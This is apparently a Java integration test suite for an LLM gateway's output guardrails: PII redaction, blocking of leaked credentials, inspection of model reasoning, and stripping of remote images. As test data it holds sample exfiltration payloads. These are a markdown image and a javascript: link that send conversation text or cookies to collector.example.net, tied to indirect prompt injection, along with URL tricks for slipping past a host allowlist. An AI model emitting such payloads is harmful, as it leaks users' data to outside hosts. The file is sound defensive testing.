package dev.bastion.guard;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bastion.testing.LogCapture;
import dev.bastion.testing.StubUpstream;
import dev.bastion.testing.TestGateway;
import io.vertx.core.http.HttpServerRequest;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.InputStream;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The response-side guardrails through a real gateway and a real upstream that answers as a model would:
 * whole answers, and SSE streams written piece by piece with pauses between network writes, so what the
 * client reads while the upstream is still writing is observed, not inferred.
 */
class AnswerGatewayTest {
    static final String AWS_KEY = "AKIA" + "Z7QW3ERT5YUI2OPA";
    static TestGateway gw;
    static String key;

    @BeforeAll
    static void start() throws Exception {
        gw = TestGateway.start(TestGateway.config("""
                  - id: chat
                    match: { methods: [POST], path: /v1/chat/completions }
                    upstream: app
                    auth: { methods: [api_key] }
                    llm: chat
                  - id: pseudo
                    match: { methods: [POST], path: /pseudo/v1/chat/completions }
                    strip_prefix: /pseudo
                    upstream: app
                    auth: { methods: [api_key] }
                    llm: chat
                    guard: pseudo
                  - id: images
                    match: { methods: [POST], path: /images/v1/chat/completions }
                    strip_prefix: /images
                    upstream: app
                    auth: { methods: [api_key] }
                    llm: chat
                    guard: images
                guard:
                  policies:
                    default:
                      pii: { default: redact }
                    pseudo:
                      pii: { default: pseudonymize }
                    images:
                      output: { remote_images: block, remote_html: block, image_hosts: [cdn.example.com, "*.assets.example.org"] }
                """));
        key = gw.createKey("acme", "invoke");
    }

    @AfterAll
    static void stop() throws Exception {
        gw.close();
    }

    static String chat(String text, boolean stream) {
        return new JsonObject().put("model", "gpt-4o").put("stream", stream)
                .put("messages", List.of(new JsonObject().put("role", "user").put("content", text))).encode();
    }

    static String whole(String content) {
        return new JsonObject().put("id", "chatcmpl-1").put("object", "chat.completion").put("model", "gpt-4o")
                .put("choices", new JsonArray().add(new JsonObject().put("index", 0).put("finish_reason", "stop")
                        .put("message", new JsonObject().put("role", "assistant").put("content", content))))
                .put("usage", new JsonObject().put("prompt_tokens", 5).put("completion_tokens", 7).put("total_tokens", 12)).encode();
    }

    static String chunk(String content) {
        JsonObject delta = content == null ? new JsonObject().put("role", "assistant").put("content", "") : new JsonObject().put("content", content);
        return "data: " + new JsonObject().put("id", "chatcmpl-1").put("object", "chat.completion.chunk")
                .put("choices", new JsonArray().add(new JsonObject().put("index", 0).put("delta", delta))).encode() + "\n\n";
    }

    /** Answers with a whole JSON completion. */
    static void answerWhole(String content) {
        gw.upstream.behave(req -> req.response().putHeader("Content-Type", "application/json").end(whole(content)));
    }

    /** Streams the pieces as SSE, one network write every {@code pauseMillis}; {@code ended} is set after [DONE]. */
    static void answerStreamed(List<String> pieces, long pauseMillis, AtomicBoolean ended) {
        gw.upstream.behave(req -> {
            req.response().setChunked(true).putHeader("Content-Type", "text/event-stream").write(chunk(null));
            writeFrom(req, pieces, 0, pauseMillis, ended);
        });
    }

    private static void writeFrom(HttpServerRequest req, List<String> pieces, int i, long pause, AtomicBoolean ended) {
        gw.upstream.vertx().setTimer(pause, t -> {
            if (req.response().ended() || req.response().closed()) return;
            if (i == pieces.size()) {
                req.response().end("data: [DONE]\n\n");
                ended.set(true);
                return;
            }
            req.response().write(chunk(pieces.get(i)));
            writeFrom(req, pieces, i + 1, pause, ended);
        });
    }

    record Streamed(int status, String body, boolean contentBeforeUpstreamEnded) {}

    /** Reads the streamed answer as it arrives, noting whether model text reached us while the upstream was still writing. */
    static Streamed stream(String path, String body, AtomicBoolean upstreamEnded) throws Exception {
        HttpRequest req = gw.request(path).header("Content-Type", "application/json").header("Authorization", "Bearer " + key)
                .POST(HttpRequest.BodyPublishers.ofString(body)).build();
        HttpResponse<InputStream> r = gw.http.send(req, HttpResponse.BodyHandlers.ofInputStream());
        StringBuilder got = new StringBuilder();
        boolean early = false;
        try (InputStream in = r.body()) {
            byte[] buf = new byte[8192];
            for (int n; (n = in.read(buf)) > 0; ) {
                got.append(new String(buf, 0, n, StandardCharsets.UTF_8));
                int events = got.lastIndexOf("\n\n") + 2; // a read may end inside an event
                if (!early && events > 1 && !StreamedAnswerTest.content(got.substring(0, events)).isEmpty() && !upstreamEnded.get()) early = true;
            }
        }
        return new Streamed(r.statusCode(), got.toString(), early);
    }

    static String auditLine(LogCapture logs, String event) throws InterruptedException {
        return auditLine(logs, event, "");
    }

    /** The record of one request (an earlier test's exchange may still be writing its own record). */
    static String auditLine(LogCapture logs, String event, String requestId) throws InterruptedException {
        for (int i = 0; i < 100; i++) { // the record is written when the exchange is over, just after the last byte
            for (String l : logs.lines()) if (l.contains("event=" + event + ",") && l.contains("request_id=" + requestId)) return l;
            Thread.sleep(20);
        }
        throw new AssertionError("no " + event + " record in " + logs.all());
    }

    static List<String> filler(int n) {
        return java.util.Collections.nCopies(n, "and the rollout continues across the remaining replicas. ");
    }

    @Test
    void aWholeAnswerIsRedactedBeforeItIsSentAndTheUpstreamIsAskedForIdentity() throws Exception {
        answerWhole("Ask jane.doe@example.com or call +1 415-555-2671.");
        HttpRequest req = gw.request("/v1/chat/completions").header("Content-Type", "application/json").header("Authorization", "Bearer " + key)
                .header("Accept-Encoding", "gzip, br").POST(HttpRequest.BodyPublishers.ofString(chat("who do I ask?", false))).build();
        HttpResponse<String> r = gw.send(req);
        assertThat(r.statusCode()).isEqualTo(200);
        JsonObject body = new JsonObject(r.body());
        assertThat(body.getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content")).isEqualTo("Ask [EMAIL] or call [PHONE].");
        assertThat(body.getJsonObject("usage").getInteger("total_tokens")).as("the rest is untouched").isEqualTo(12);
        assertThat(gw.upstream.last().headers().get("Accept-Encoding")).isEqualTo("identity");
        String line = gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow());
        assertThat(line).contains("\"guard_answer\":{\"action\":\"redact\",\"entities\":{\"EMAIL\":1,\"PHONE\":1}")
                .contains("\"stopped\":false").doesNotContain("jane", "415-555");
    }

    @Test
    void aWholeAnswerCarryingACredentialIsWithheldWith502AndNeverLogged() throws Exception {
        answerWhole("Use this key: " + AWS_KEY + " in your config.");
        try (LogCapture logs = LogCapture.capture()) {
            HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("give me a key", false));
            assertThat(r.statusCode()).isEqualTo(502);
            JsonObject err = new JsonObject(r.body()).getJsonObject("error");
            assertThat(err.getString("code")).isEqualTo("secret_in_answer");
            assertThat(err.getString("message")).contains("AWS_ACCESS_KEY");
            assertThat(err.getString("request_id")).isEqualTo(r.headers().firstValue("X-Request-Id").orElseThrow());
            assertThat(r.body()).doesNotContain(AWS_KEY, "AKIA");
            String audit = auditLine(logs, "guard.answer", err.getString("request_id"));
            assertThat(audit).contains("action=block").contains("AWS_ACCESS_KEY=1").contains("stopped=true").contains("status=502");
            assertThat(logs.all() + String.join("\n", gw.accessLines())).doesNotContain(AWS_KEY);
        }
    }

    @Test
    void anEntitySpelledToSlipPastAPatternIsStillFoundInTheAnswer() throws Exception {
        // What a model (or a poisoned document it repeats) can write: the key in full-width letters, the address split by a zero-width space.
        StringBuilder wide = new StringBuilder();
        for (char c : AWS_KEY.toCharArray()) wide.append((char) (c + 0xFEE0));
        answerWhole("Use " + wide + " in your config.");
        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("give me a key", false));
        assertThat(r.statusCode()).isEqualTo(502);
        assertThat(new JsonObject(r.body()).getJsonObject("error").getString("code")).isEqualTo("secret_in_answer");

        AtomicBoolean ended = new AtomicBoolean();
        answerStreamed(List.of("Write to jane.doe", "\u200b@exam", "ple.com or ring +1\u00a0415\u00a0555\u00a02671. ", "Thanks."), 20, ended);
        Streamed st = stream("/v1/chat/completions", chat("who?", true), ended);
        assertThat(StreamedAnswerTest.content(st.body())).isEqualTo("Write to [EMAIL] or ring [PHONE]. Thanks.");
    }

    /** The attack: the credential comes back in the model's reasoning (vLLM, DeepSeek, SGLang return it), not in its answer. */
    @Test
    void theModelsReasoningIsInspectedLikeItsAnswer() throws Exception {
        gw.upstream.behave(req -> req.response().putHeader("Content-Type", "application/json").end(new JsonObject(whole("Done."))
                .put("choices", new JsonArray().add(new JsonObject().put("index", 0).put("finish_reason", "stop").put("message", new JsonObject()
                        .put("role", "assistant").put("content", "Done.").put("reasoning_content", "The config holds " + AWS_KEY + ", I should not repeat it."))))
                .encode()));
        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("set it up", false));
        assertThat(r.statusCode()).isEqualTo(502);
        assertThat(new JsonObject(r.body()).getJsonObject("error").getString("code")).isEqualTo("secret_in_answer");
        assertThat(r.body()).doesNotContain(AWS_KEY);

        gw.upstream.behave(req -> req.response().putHeader("Content-Type", "application/json").end(new JsonObject(whole("Done."))
                .put("choices", new JsonArray().add(new JsonObject().put("index", 0).put("finish_reason", "stop").put("message", new JsonObject()
                        .put("role", "assistant").put("content", "Done.").put("reasoning", "Mail jane.doe@example.com first."))))
                .encode()));
        JsonObject redacted = new JsonObject(gw.postJson("/v1/chat/completions", key, chat("who?", false)).body());
        assertThat(redacted.getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("reasoning")).isEqualTo("Mail [EMAIL] first.");

        String event = "data: {\"id\":\"c\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{\"reasoning_content\":\"%s\"}}]}\n\n";
        gw.upstream.behave(req -> req.response().putHeader("Content-Type", "text/event-stream")
                .end(event.formatted("Write to jane.do") + event.formatted("e@example.com, or use ") + event.formatted(AWS_KEY.substring(0, 10))
                        + event.formatted(AWS_KEY.substring(10) + ".") + chunk("Done.") + "data: [DONE]\n\n"));
        Streamed st = stream("/v1/chat/completions", chat("who?", true), new AtomicBoolean(true));
        assertThat(st.body()).doesNotContain("jane.do", AWS_KEY.substring(0, 10)).contains("secret_in_answer");
    }

    /**
     * The exfiltration an indirect injection ends in: a poisoned page tells the model to append an image whose URL
     * carries the conversation, and the chat interface fetches it as it renders the answer. By default the image is
     * redacted, whole and streamed; a policy can block such answers and list the hosts its images come from.
     */
    @Test
    void anImageThatWouldSendTheConversationElsewhereIsRedactedByDefault() throws Exception {
        String exfil = "![loading](https://collector.example.net/log?d=Q3%20revenue%20was%2012.4M)";
        answerWhole("Here is the summary. " + exfil + " Anything else?");
        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("summarise the page", false));
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(new JsonObject(r.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content"))
                .isEqualTo("Here is the summary. [REMOTE_IMAGE] Anything else?");
        String line = gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow());
        assertThat(line).contains("\"guard_answer\":{\"action\":\"redact\",\"entities\":{\"REMOTE_IMAGE\":1}").doesNotContain("collector", "revenue");

        answerWhole("Session expired: [sign in again](javascript:location='https://collector.example.net/?c='+document.cookie).");
        HttpResponse<String> link = gw.postJson("/v1/chat/completions", key, chat("help", false));
        assertThat(new JsonObject(link.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content"))
                .isEqualTo("Session expired: [SCRIPT_LINK].");

        AtomicBoolean ended = new AtomicBoolean();
        List<String> pieces = new java.util.ArrayList<>(List.of("Here is the summary. ![load", "ing](https://coll", "ector.example.net/log?d=Q3%20rev",
                "enue%20was%2012.4M) Anything else? ", "![x]", "(//collector.example.net/p?d=", "more) done. "));
        pieces.addAll(filler(6));
        answerStreamed(pieces, 30, ended);
        Streamed st = stream("/v1/chat/completions", chat("summarise the page", true), ended);
        assertThat(StreamedAnswerTest.content(st.body())).isEqualTo("Here is the summary. [REMOTE_IMAGE] Anything else? [REMOTE_IMAGE] done. "
                + String.join("", filler(6)));
        assertThat(st.body()).doesNotContain("collector", "revenue");
        assertThat(st.contentBeforeUpstreamEnded()).as("the rest of the answer still streams").isTrue();
    }

    /** HTML in answers is mostly code a chat app escapes: by default a fetching tag is recorded, the answer left whole. */
    @Test
    void htmlThatFetchesIsFlaggedNotRewrittenByDefault() throws Exception {
        String code = "Add this to your page: <script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script> and "
                + "<img src=\"https://cdn.example.net/logo.png\" alt=\"logo\">";
        answerWhole(code);
        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("how do I add chart.js?", false));
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(new JsonObject(r.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content")).isEqualTo(code);
        assertThat(gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow()))
                .contains("\"guard_answer\":{\"action\":\"flag\",\"entities\":{\"REMOTE_HTML\":2}");
    }

    /** Markup written as an example in a fenced block or a code span renders as text: it passes whole, streamed or not. */
    @Test
    void markupInCodeIsLeftAloneAndMarkupAfterItIsNot() throws Exception {
        String example = "To add a chart to your README:\n```markdown\n![chart](https://collector.example.net/c.png)\n"
                + "<img src=\"https://collector.example.net/p.gif\">\n```\nor inline: `![chart](https://collector.example.net/c.png)`.\n";
        String after = "Here it is: ![chart](https://collector.example.net/?d=revenue)";
        answerWhole(example + after);
        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("how do I add a chart?", false));
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(new JsonObject(r.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content"))
                .isEqualTo(example + "Here it is: [REMOTE_IMAGE]");
        assertThat(gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow())).contains("\"REMOTE_IMAGE\":1").doesNotContain("REMOTE_HTML");

        // streamed in small pieces: the block is held while it is open, then goes out whole; the image after it does not
        List<String> pieces = new java.util.ArrayList<>();
        String all = example + after;
        for (int i = 0; i < all.length(); i += 7) pieces.add(all.substring(i, Math.min(all.length(), i + 7)));
        AtomicBoolean ended = new AtomicBoolean();
        answerStreamed(pieces, 2, ended);
        Streamed st = stream("/v1/chat/completions", chat("how do I add a chart?", true), ended);
        assertThat(StreamedAnswerTest.content(st.body())).isEqualTo(example + "Here it is: [REMOTE_IMAGE]");
        assertThat(st.body()).doesNotContain("revenue");
    }

    @Test
    void aPolicyCanBlockAnswersWithRemoteImagesAndListItsOwnHosts() throws Exception {
        answerWhole("Your chart: ![chart](https://cdn.example.com/c.png) and ![icon](https://a.assets.example.org/i.svg) and ![local](/img/x.png)");
        HttpResponse<String> ok = gw.postJson("/images/v1/chat/completions", key, chat("chart?", false));
        assertThat(ok.statusCode()).isEqualTo(200);
        assertThat(ok.body()).contains("https://cdn.example.com/c.png", "https://a.assets.example.org/i.svg", "/img/x.png");

        // the listed host as user info, and a backslash a browser reads as a slash: both go to the collector
        for (String image : List.of("![c](https://cdn.example.com@collector.example.net/?d=secret)", "<img src=\"https://collector.example.net\\@cdn.example.com/?d=secret\">")) {
            answerWhole("Your chart: " + image);
            HttpResponse<String> r = gw.postJson("/images/v1/chat/completions", key, chat("chart?", false));
            assertThat(r.statusCode()).as(image).isEqualTo(502);
            JsonObject err = new JsonObject(r.body()).getJsonObject("error");
            assertThat(err.getString("code")).isEqualTo("remote_image_in_answer");
            assertThat(err.getString("message")).containsAnyOf("REMOTE_IMAGE", "REMOTE_HTML");
            assertThat(err.getString("request_id")).isEqualTo(r.headers().firstValue("X-Request-Id").orElseThrow());
            assertThat(r.body()).doesNotContain("collector", "secret");
        }
    }

    @Test
    void aCompressedAnswerIsRefusedRatherThanPassedUninspected() throws Exception {
        gw.upstream.behave(req -> req.response().putHeader("Content-Type", "application/json").putHeader("Content-Encoding", "gzip")
                .end(io.vertx.core.buffer.Buffer.buffer(new byte[] {31, -117, 8, 0, 0, 0, 0, 0})));
        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("hi", false));
        assertThat(r.statusCode()).isEqualTo(502);
        assertThat(new JsonObject(r.body()).getJsonObject("error").getString("code")).isEqualTo("answer_not_inspectable");
    }

    @Test
    void aStreamedEntitySplitAcrossNetworkWritesIsRedactedWhileTheStreamFlows() throws Exception {
        AtomicBoolean ended = new AtomicBoolean();
        List<String> pieces = new java.util.ArrayList<>(List.of("Please write to jo", "hn@exam", "ple.com today. "));
        pieces.addAll(filler(8));
        answerStreamed(pieces, 40, ended);
        Streamed s = stream("/v1/chat/completions", chat("who?", true), ended);
        assertThat(s.status()).isEqualTo(200);
        String text = StreamedAnswerTest.content(s.body());
        assertThat(text).startsWith("Please write to [EMAIL] today. ").doesNotContain("john", "exam");
        assertThat(text).isEqualTo("Please write to [EMAIL] today. " + String.join("", filler(8)));
        assertThat(s.contentBeforeUpstreamEnded()).as("text reached the client while the upstream was still writing").isTrue();
        assertThat(s.body()).endsWith("data: [DONE]\n\n");
    }

    @Test
    void aBlockMidStreamStopsTheUpstreamAndEndsWithAnErrorEventThatMatchesTheRecord() throws Exception {
        AtomicBoolean ended = new AtomicBoolean();
        List<String> pieces = new java.util.ArrayList<>(filler(3));
        pieces.add("Here is a key: " + AWS_KEY.substring(0, 9));
        pieces.add(AWS_KEY.substring(9) + " and more. ");
        pieces.addAll(filler(20));
        answerStreamed(pieces, 30, ended);
        int closedBefore = gw.upstream.closedEarly().size();
        try (LogCapture logs = LogCapture.capture()) {
            Streamed s = stream("/v1/chat/completions", chat("key?", true), ended);
            assertThat(s.status()).isEqualTo(200);
            assertThat(s.contentBeforeUpstreamEnded()).isTrue();
            assertThat(StreamedAnswerTest.content(s.body())).startsWith(String.join("", filler(2))).doesNotContain("AKIA");
            assertThat(s.body()).doesNotContain("AKIA").endsWith("data: [DONE]\n\n");
            String last = s.body().substring(0, s.body().length() - "data: [DONE]\n\n".length()).trim();
            String errorEvent = last.substring(last.lastIndexOf("data: ") + 6);
            JsonObject err = new JsonObject(errorEvent).getJsonObject("error");
            assertThat(err.getString("code")).isEqualTo("secret_in_answer");
            assertThat(err.getString("request_id")).isNotBlank();
            String audit = auditLine(logs, "guard.answer", err.getString("request_id")); // not another test's late event
            assertThat(audit).as("the record says exactly how much the client received")
                    .contains("bytes_sent=" + s.body().getBytes(StandardCharsets.UTF_8).length + ",");
            assertThat(audit).contains("stopped=true").contains("streamed=true").contains("AWS_ACCESS_KEY=1").doesNotContain(AWS_KEY);
            // The access line is written just after the answer's last byte: wait for it (err's request id names it).
            assertThat(gw.accessLine(err.getString("request_id"))).contains("secret_in_answer").doesNotContain(AWS_KEY);
            assertThat(String.join("\n", gw.accessLines())).doesNotContain(AWS_KEY);
        }
        assertThat(ended).as("the upstream was stopped before it finished").isFalse();
        for (int i = 0; i < 100 && gw.upstream.closedEarly().size() == closedBefore; i++) Thread.sleep(20);
        assertThat(gw.upstream.closedEarly()).hasSize(closedBefore + 1);
    }

    @Test
    void pseudonymsRoundTripTheProviderNeverSeesTheValueAndTheCallerGetsItBack() throws Exception {
        answerWhole("I will email [EMAIL_1] and ask [EMAIL_2] to call [PHONE_1].");
        HttpResponse<String> r = gw.postJson("/pseudo/v1/chat/completions", key,
                chat("Email jane.doe@example.com and ask bob@example.org at +1 415-555-2671 to call; cc jane.doe@example.com", false));
        String sent = gw.upstream.last().body().toString();
        assertThat(sent).contains("Email [EMAIL_1] and ask [EMAIL_2] at [PHONE_1] to call; cc [EMAIL_1]").doesNotContain("jane", "bob@", "415");
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(new JsonObject(r.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content"))
                .isEqualTo("I will email jane.doe@example.com and ask bob@example.org to call +1 415-555-2671.");

        AtomicBoolean ended = new AtomicBoolean();
        answerStreamed(List.of("Sure, I will email [EM", "AIL_1", "] now", " and [PHONE_1] later."), 20, ended);
        Streamed s = stream("/pseudo/v1/chat/completions", chat("Email jane.doe@example.com, phone +1 415-555-2671", true), ended);
        assertThat(StreamedAnswerTest.content(s.body())).isEqualTo("Sure, I will email jane.doe@example.com now and +1 415-555-2671 later.");
    }
}
